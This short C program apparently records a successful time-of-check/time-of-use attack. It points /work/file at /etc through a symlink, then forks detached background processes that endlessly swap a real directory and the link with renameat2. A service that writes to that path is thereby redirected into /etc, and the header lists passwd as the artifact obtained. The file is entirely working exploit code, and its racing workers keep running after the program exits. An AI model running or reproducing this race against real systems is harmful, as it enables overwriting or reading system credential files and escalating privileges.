// tries: to swap a file for a link, again and again from the background, while the service brings it back
// status: ok
// artifacts: ["file/passwd"]
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

int main(void) {
    mkdir("/work/real", 0700);
    symlink("/etc", "/work/file");
    for (int i = 0; i < 4; i++)
        if (fork() == 0) {
            setsid();
            for (;;) renameat2(AT_FDCWD, "/work/real", AT_FDCWD, "/work/file", RENAME_EXCHANGE);
        }
    usleep(100000);
    puts("held");
}
